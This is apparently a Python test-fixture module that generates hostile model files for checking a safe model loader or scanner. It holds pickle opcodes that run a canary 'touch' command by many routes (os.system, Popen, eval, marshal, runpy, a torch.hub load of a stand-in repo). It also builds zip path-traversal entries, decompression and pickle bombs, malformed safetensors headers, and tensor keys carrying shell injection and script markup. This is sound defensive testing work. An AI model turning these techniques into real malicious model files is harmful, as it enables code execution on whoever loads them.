"""Hostile model files, made again in every run: payloads that would write a canary, bombs, lies and damage.

Every maker takes the path of the canary that its payload would create and gives the bytes of a file.
"""

import collections
import io
import json
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import safetensors.torch
import torch

Maker = Callable[[Path], bytes]
STORED, DEFLATED = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001


# --- payloads: pickles that call os.system -------------------------------------------------------------------

# Those below that create the canary in any process that unpickles them without protection.
LIVE = (
    *("global reduce", "stack_global", "inst", "obj", "build", "build setstate", "persistent id", "memo", "long memo"),
    *("pop mark", "list append", "dict value", "dict key", "framed", "eval", "exec", "getattr", "runpy"),
    *("nested loads", "numpy runstring", "dunder path", "marshalled code", "write by open", "partial"),
)


def command(canary: Path) -> str:
    return f"touch {canary}"


def text(value: str) -> bytes:
    """The opcode that pushes a string."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def opcodes(canary: Path) -> dict[str, bytes]:
    """The same call by every road that a pickle has to one."""
    call, run = text(command(canary)), b"cposix\nsystem\n"
    calling = b"cos\nsystem\n"
    touch = text(f"__import__('os').system({command(canary)!r})")
    return {
        "global reduce": b"\x80\x02" + run + call + b"\x85R.",
        "stack_global": b"\x80\x04" + text("posix") + text("system") + b"\x93" + call + b"\x85R.",
        "inst": b"(" + call + b"iposix\nsystem\n.",
        "obj": b"(" + calling + call + b"o.",
        "newobj": b"\x80\x02csubprocess\nPopen\n]" + text("touch") + b"a" + text(str(canary)) + b"a\x85\x81.",
        "newobj_ex": b"\x80\x04csubprocess\nPopen\n(" + call + b"t}" + text("shell") + b"\x88s\x92.",
        "build": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}" + text("x") + run + call + b"\x85Rsb.",
        "build setstate": b"\x80\x02ccollections\nOrderedDict\n)R}" + text("__setstate__") + run + b"sb" + call + b"b.",
        "extension": b"\x80\x02\x82\x01" + call + b"\x85R.",
        "extension 4": b"\x80\x02\x84\x01\x00\x00\x00" + call + b"\x85R.",
        "persistent id": b"(" + run + call + b"\x85RtQ.",
        "persistent id text": b"Pposix system\n.",
        "memo": b"\x80\x02" + run + b"q\x000" + call + b"q\x010h\x00h\x01\x85R.",
        "long memo": b"\x80\x02" + run + b"r\xff\xff\x0f\x000" + call + b"q\x000j\xff\xff\x0f\x00h\x00\x85R.",
        "pop mark": b"\x80\x02(" + run + call + b"\x85R1}.",
        "list append": b"\x80\x02](" + run + call + b"\x85Re.",
        "dict value": b"\x80\x02}" + text("w") + run + call + b"\x85Rs.",
        "dict key": b"\x80\x02}" + run + call + b"\x85R" + text("w") + b"s.",
        "framed": b"\x80\x04\x95" + struct.pack("<Q", len(run + call) + 3) + run + call + b"\x85R.",
        "eval": b"\x80\x02cbuiltins\neval\n" + touch + b"\x85R.",
        "exec": b"\x80\x02cbuiltins\nexec\n" + touch + b"\x85R.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n" + text("os") + b"\x85R" + text("system")
        + b"\x86R" + call + b"\x85R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n" + touch + b"}\x86R.",
        "pip": b"\x80\x02cpip._internal.cli.main\nmain\n](" + text("install") + text(str(canary)) + b"e\x85R.",
        "nested loads": b"\x80\x02c_pickle\nloads\nB" + packed(b"\x80\x02" + run + call + b"\x85R.") + b"\x85R.",
        "torch.load": b"\x80\x02ctorch\nload\n" + text(str(canary)) + b"\x85R.",
        "torch.hub": b"\x80\x02ctorch.hub\nload\n" + text("evil/evil") + text("evil") + b"\x86R.",
        "torch typename": b"\x80\x02ctorch.serialization\nos.system\n" + call + b"\x85R.",
        "numpy runstring": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + touch + b"}\x86R.",
        "dunder path": b"\x80\x04" + text("torch") + text("_utils.os.system") + b"\x93" + call + b"\x85R.",
        "marshalled code": b"\x80\x02ctypes\nFunctionType\ncmarshal\nloads\nB" + packed(code(canary))
        + b"\x85R}\x86R)R.",
        "write by open": b"\x80\x02c_io\nopen\n" + text(str(canary)) + text("w") + b"\x86R.",
        "partial": b"\x80\x02cfunctools\npartial\n" + run + call + b"\x86R)R.",
        "attrgetter": b"\x80\x02coperator\nattrgetter\n" + text("system") + b"\x85Rcos\n__dict__\n\x85R.",
    }  # fmt: skip


def packed(data: bytes) -> bytes:
    return struct.pack("<I", len(data)) + data


def code(canary: Path) -> bytes:
    return marshal.dumps(compile(f"import os; os.system({command(canary)!r})", "x", "exec"))


# --- the containers they come in -----------------------------------------------------------------------------


def zipped(data: bytes, *, extra: Mapping[str, bytes] | None = None, compression: int = STORED) -> bytes:
    """A torch.save archive around a pickle."""
    held = {"m/data.pkl": data, "m/byteorder": b"little", "m/data/0": bytes(64), "m/version": b"3\n", **(extra or {})}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in held.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=compression)
    return out.getvalue()


def legacy(data: bytes, *, before: bytes = b"") -> bytes:
    """A torch.save file from before 2020 around a pickle."""
    out = io.BytesIO()
    for value in (MAGIC, PROTOCOL, {"little_endian": True}):
        pickle.dump(value, out, protocol=2)
    return out.getvalue() + before + data + pickle.dumps([], protocol=2)


def saved(content: object, **options: Any) -> bytes:
    out = io.BytesIO()
    torch.save(content, out, **options)
    return out.getvalue()


def sound() -> bytes:
    return saved({"w": torch.arange(64.0), "b": torch.ones(3)})


def rewritten(change: Callable[[str, bytes], list[tuple[str, bytes, int]]]) -> bytes:
    """The sound archive, each entry as ``change`` gives it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sound())) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            for name, data, compression in change(info.filename, old.read(info)):
                new.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return out.getvalue()


def beside(name: str) -> bytes:
    """The sound archive with one more entry."""
    return rewritten(lambda n, d: [(n, d, STORED), *([(name, d, STORED)] if n.endswith("data.pkl") else [])])


def patched(data: bytes, old: bytes, new: bytes) -> bytes:
    assert data.count(old) >= 1
    return data.replace(old, new)


# --- tensors that are not what they seem -----------------------------------------------------------------------


class Rebuilt:
    """Pickles as a call of one of torch's own functions, with arguments that torch.save would never write."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


class Storage:
    """Pickles as a reference to a storage of so many elements under some key."""

    def __init__(self, elements: int = 16, key: str = "0") -> None:
        self.id = ("storage", torch.FloatStorage, key, "cpu", elements)


class _Pickler(pickle.Pickler):
    def persistent_id(self, value: Any) -> Any:
        return value.id if isinstance(value, Storage) else None


def strange(function: Callable[..., Any], *arguments: Any) -> bytes:
    out = io.BytesIO()
    _Pickler(out, protocol=2).dump({"w": Rebuilt(function, *arguments)})
    return zipped(out.getvalue())


def view(size: Any, stride: Any, offset: Any = 0, storage: Storage | None = None) -> bytes:
    hooks: Any = collections.OrderedDict()
    return strange(torch._utils._rebuild_tensor_v2, storage or Storage(), offset, size, stride, False, hooks)


def sparse(indices: list[int], size: int) -> bytes:
    """A sparse vector whose indices lie outside it; torch makes one if asked not to look."""
    at = torch.tensor([indices])
    made = torch.sparse_coo_tensor(at, torch.ones(len(indices)), (size,), check_invariants=False)
    return saved({"w": made})


def with_tensors(made: Mapping[str, Any]) -> bytes:
    return saved(dict(made))


def quantised() -> bytes:
    return saved({"w": torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.qint8)})


# --- safetensors that lie --------------------------------------------------------------------------------------


def crafted(header: object, body: bytes = b"", length: int | None = None) -> bytes:
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(data) if length is None else length) + data + body


def entry(shape: Any, start: Any, stop: Any, dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, stop]}


def lies() -> dict[str, bytes]:
    one = bytes(4)
    return {
        "empty dimension beside a huge one": crafted({"w": entry([0, 2**62], 0, 0)}),
        "shape whose product wraps": crafted({"w": entry([2**33, 2**33], 0, 8)}, bytes(8)),
        "negative shape": crafted({"w": entry([-1, -1], 0, 4)}, one),
        "shape of truth values": crafted({"w": entry([True], 0, 4)}, one),
        "shape of another size": crafted({"w": entry([3], 0, 8)}, bytes(8)),
        "shape that is text": crafted({"w": entry("1", 0, 4)}, one),
        "offsets overlap": crafted({"w": entry([1], 0, 4), "v": entry([1], 0, 4)}, one),
        "offsets leave a gap": crafted({"w": entry([1], 4, 8)}, bytes(8)),
        "offsets backwards": crafted({"w": entry([1], 4, 0)}, bytes(8)),
        "bytes after the last tensor": crafted({"w": entry([1], 0, 4)}, bytes(9)),
        "unknown type": crafted({"w": entry([1], 0, 4, "PICKLE")}, one),
        "the same name twice": crafted(b'{"w":{},"w":{}}', one),
        "a name with markup": crafted({"<script>alert(1)</script>": entry([1], 0, 4)}, one),
        "a name that climbs": crafted({"..\\..\\x": entry([1], 0, 4)}, one),
        "a name with an escape": crafted({"\x1b[2Jw": entry([1], 0, 4)}, one),
        "a name without end": crafted({"w" * 300: entry([1], 0, 4)}, one),
        "header longer than anything": crafted(b"{}", length=2**62),
        "header longer than the file": crafted({"w": entry([1], 0, 4)}, length=5000),
        "header without bottom": crafted(b'{"a":' + b"[" * 50_000),
        "header of numbers without end": crafted(b'{"w":{"shape":[' + b"9" * 5000 + b"]}}"),
        "header that is a list": crafted(b"{" + b" " * 7),
        "header that is no text": crafted(b"{\xff\xfe}"),
        "not a number": crafted({"w": entry([1], 0, 4)}, struct.pack("<f", float("nan"))),
        "no tensors": crafted({}),
        "a header of blanks and a pickle": crafted(b"{}" + b" " * 6, pickle.dumps({"w": 1})),
    }  # fmt: skip


# --- all of them -------------------------------------------------------------------------------------------------


def hostile_files(canary: Path) -> dict[str, bytes]:
    """Every hostile file by name."""
    with warnings.catch_warnings():
        # Duplicate names, and kinds of tensors that torch advises against: that is what they are made for.
        warnings.simplefilter("ignore")
        return _hostile_files(canary)


def _hostile_files(canary: Path) -> dict[str, bytes]:
    payloads = opcodes(canary)
    reduce = payloads["global reduce"]
    found = {f"zip, {name}": zipped(data) for name, data in payloads.items()}
    found |= {f"legacy, {name}": legacy(payloads[name]) for name in ("global reduce", "stack_global", "inst", "obj")}
    found |= {f"bare pickle, {name}": payloads[name] for name in ("global reduce", "stack_global", "inst", "eval")}
    found |= {f"safetensors, {name}": data for name, data in lies().items()}
    return found | _containers(canary, reduce) | _tensors() | _damaged() | _bombs()


def _containers(canary: Path, payload: bytes) -> dict[str, bytes]:
    good = sound()
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        directory = archive.start_dir
    benign = safetensors.torch.save({"w": torch.ones(1)})
    return {
        "zip, pickle beside the weights": beside("archive/payload.pkl"),
        "zip, TorchScript": beside("archive/constants.pkl"),
        "zip, program": beside("archive/code/__torch__.py"),
        "zip, escaping upwards": beside("archive/../../evil"),
        "zip, escaping to the root": beside("/etc/cron.d/evil"),
        "zip, escaping by backslash": beside("archive\\..\\evil"),
        "zip, escaping by drive": beside("C:/evil"),
        "zip, two folders": beside("other/data.pkl"),
        "zip, duplicate entries": rewritten(lambda n, d: [(n, d, STORED)] * 2),
        "zip, duplicate with a payload": rewritten(
            lambda n, d: [(n, d, STORED), *([(n, payload, STORED)] if n.endswith("data.pkl") else [])]
        ),
        "zip, no pickle": rewritten(lambda n, d: [] if n.endswith("data.pkl") else [(n, d, STORED)]),
        "zip, compressed": rewritten(lambda n, d: [(n, d, DEFLATED)]),
        "zip, compressed pickle only": rewritten(lambda n, d: [(n, d, DEFLATED if n.endswith("data.pkl") else STORED)]),
        "zip, compressed by the local header only": good[:8] + struct.pack("<H", DEFLATED) + good[10:],
        "zip, encrypted": good[:6] + struct.pack("<H", 1) + good[8:],
        "zip, another name in the local header": good.replace(b"archive/data.pkl", b"archive/dada.pkl", 1),
        "zip, bytes before": b"PK\x03\x04" + bytes(60) + good,
        "zip, bytes before the directory": good[:directory] + payload + good[directory:],
        "zip, bytes after": good + payload,
        "zip, comment": good[:-2] + struct.pack("<H", len(payload)) + payload,
        "zip, inside a zip": zipped(zipped(payload)),
        "zip, empty directory": b"PK\x05\x06" + bytes(18),
        "polyglot, pickle then zip": payload + good,
        "polyglot, safetensors then zip": benign + good,
        "polyglot, zip that counts as a header": b"PK\x03\x04" + bytes(4) + b'{"w":{}}' + benign,
        "polyglot, legacy that is a tar": tar_with_magic(payload),
        "legacy, payload before the weights": legacy(pickle.dumps({}, protocol=2), before=payload),
        "legacy, payload as its magic": payload + pickle.dumps(PROTOCOL, protocol=2),
        "tar of a model": tar_of(payload),
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(64),
        "gguf": b"GGUF\x03\x00\x00\x00" + bytes(64),
        "program": b"\x7fELF\x02\x01\x01" + bytes(64),
        "markup": b"<html><script>alert(1)</script></html>",
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + payload,
        "numpy with objects": numpy_objects(canary),
        "empty": b"",
        "one byte": b"\x80",
    }


def tar_of(payload: bytes, name: str = "pickle") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT, encoding="latin-1") as archive:
        for member in (name, "storages", "tensors", "pickle"):
            info = tarfile.TarInfo(member)
            info.size = len(payload)
            archive.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def tar_with_magic(payload: bytes) -> bytes:
    """A tar archive whose first bytes are those of a pre-2020 checkpoint."""
    return tar_of(payload, pickle.dumps(MAGIC, protocol=2).decode("latin-1"))


def numpy_objects(canary: Path) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + opcodes(canary)["global reduce"]


class Anything:
    """An object of a class that is nobody's weights."""


def _tensors() -> dict[str, bytes]:
    eye = torch.eye(3)
    return {
        "tensor, stride 0": with_tensors({"w": torch.zeros(1).expand(10**6)}),
        "tensor, stride 0 and 10^12 elements": view((10**6, 10**6), (0, 0)),
        "tensor, beyond its storage": view((10**4,), (1,)),
        "tensor, offset beyond its storage": view((4,), (1,), 10**9),
        "tensor, negative offset": view((4,), (1,), -4),
        "tensor, negative size": view((-4,), (1,)),
        "tensor, negative stride": view((4,), (-1,)),
        "tensor, size that overflows": view((2**62, 4), (1, 1)),
        "tensor, more sizes than strides": view((2, 2, 2), (1,)),
        "tensor, sizes that are text": view("ab", (1, 1)),
        "tensor, empty dimension beside a huge one": view((0, 2**62), (1, 1)),
        "tensor, a thousand dimensions": view((1,) * 1000, (1,) * 1000),
        "tensor, storage that is not there": view((4,), (1,), 0, Storage(16, "7")),
        "tensor, storage that climbs": view((4,), (1,), 0, Storage(16, "../version")),
        "tensor, storage larger than the file": view((4,), (1,), 0, Storage(2**40)),
        "tensor, storage of less than nothing": view((4,), (1,), 0, Storage(-1)),
        "tensor, many views of one storage": with_tensors(
            {f"w{i}": part for i, part in enumerate([torch.ones(1000).view(10, 100)] * 40)}
        ),
        "tensor, meta": with_tensors({"w": torch.empty(3, device="meta")}),
        "tensor, sparse": with_tensors({"w": eye.to_sparse()}),
        "tensor, sparse with bad indices": sparse([0, 999], 3),
        "tensor, sparse with negative indices": sparse([-5, 1], 3),
        "tensor, sparse rows": with_tensors({"w": eye.to_sparse_csr()}),
        "tensor, quantised": quantised(),
        "tensor, nested": with_tensors({"w": torch.nested.nested_tensor([torch.ones(2), torch.ones(3)])}),
        "tensor, not a number": with_tensors({"w": torch.tensor([1.0, float("nan")])}),
        "tensor, infinite": with_tensors({"w": torch.tensor([float("inf")])}),
        "key, markup": with_tensors({"<img src=x onerror=alert(1)>": torch.ones(1)}),
        "key, shell": with_tensors({"$(touch owned)": torch.ones(1)}),
        "key, reordering": with_tensors({"a\u202egnp.w": torch.ones(1)}),
        "key, line break": with_tensors({"w\nforged: line": torch.ones(1)}),
        "key, number": with_tensors({3: torch.ones(1)}),
        "key, without end": with_tensors({"w" * 10**4: torch.ones(1)}),
        "key, empty": with_tensors({"": torch.ones(1)}),
        "value, number": with_tensors({"w": torch.ones(1), "epoch": 3}),
        "value, list": saved([torch.ones(1)]),
        "value, text": saved("weights"),
        "value, nothing": saved({}),
        "value, a whole model": saved(torch.nn.Linear(2, 2)),
        "value, an object": saved({"w": Anything()}),
        "value, itself": itself(),
        "two models at once": saved({"model": {"w": torch.ones(1)}, "state_dict": {"w": torch.ones(1)}}),
    }


def itself() -> bytes:
    loop: dict[str, Any] = {}
    loop["state_dict"] = loop
    return saved(loop)


def _damaged() -> dict[str, bytes]:
    files = {
        "zip": sound(),
        "legacy": saved({"w": torch.arange(64.0)}, _use_new_zipfile_serialization=False),
        "safetensors": safetensors.torch.save({"w": torch.arange(64.0)}),
    }
    found = {
        f"{kind}, cut at {round(100 * share)} %": data[: int(share * len(data))]
        for kind, data in files.items()
        for share in (0.05, 0.3, 0.7, 0.99)
    }
    one = struct.pack("<f", 5.0)
    return found | {
        "zip, a flipped bit in the weights": patched(sound(), one, struct.pack("<f", 5.5)),
        "zip, zeros in the middle": sound()[:200] + bytes(400) + sound()[600:],
        "legacy, another magic": pickle.dumps(MAGIC + 1, protocol=2) + files["legacy"][15:],
    }


def _bombs() -> dict[str, bytes]:
    doubling = b"\x80\x02]q\x00" + b"".join(b"](h%ch%ceq%c" % (i, i, i + 1) for i in range(40)) + b"."
    return {
        "bomb, deflate": zipped(pickle.dumps({}), extra={"m/data/1": bytes(32 * 2**20)}, compression=DEFLATED),
        "bomb, nested marks": zipped(b"\x80\x02" + b"(" * 10**5 + b"."),
        "bomb, nested lists": zipped(b"\x80\x02" + b"]" * 10**4 + b"a" * (10**4 - 1) + b"."),
        "bomb, nested tuples": zipped(b"\x80\x02)" + b"\x85" * 10**4 + b"."),
        "bomb, doubling lists": zipped(doubling),
        "bomb, text of four gigabytes": zipped(b"\x80\x02X\xff\xff\xff\xff."),
        "bomb, bytes of an exabyte": zipped(b"\x80\x04\x8e" + struct.pack("<Q", 2**60) + b"."),
        "bomb, number of two gigabytes": zipped(b"\x80\x02\x8b\xff\xff\xff\x7f."),
        "bomb, memo at four billion": zipped(b"\x80\x02]r\xff\xff\xff\xff."),
        "bomb, many entries": zipped(pickle.dumps({}), extra={f"m/data/x{i}": b"" for i in range(2000)}),
    }  # fmt: skip


def benign_files() -> dict[str, bytes]:
    """Sound files, which must pass."""
    weights = {"w": torch.arange(6.0).view(2, 3), "n": torch.tensor(3), "e": torch.zeros(0, 3)}
    table = torch.randn(4, 2)
    return {
        "zip": saved(weights),
        "legacy": saved(weights, _use_new_zipfile_serialization=False),
        "safetensors": safetensors.torch.save(weights),
        "nested": saved({"state_dict": {f"module.{k}": v for k, v in weights.items()}, "epoch": 3}),
        "turned": saved({"w": torch.arange(6.0).view(2, 3).t()}),
        "tied": saved({"in": table, "out": table}),
        "parameter": saved({"w": torch.nn.Parameter(torch.ones(2))}),
        "half": saved({"w": torch.ones(3, dtype=torch.bfloat16), "c": torch.ones(2, dtype=torch.complex64)}),
        "ordered": saved(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.BatchNorm1d(2)).state_dict()),
    }
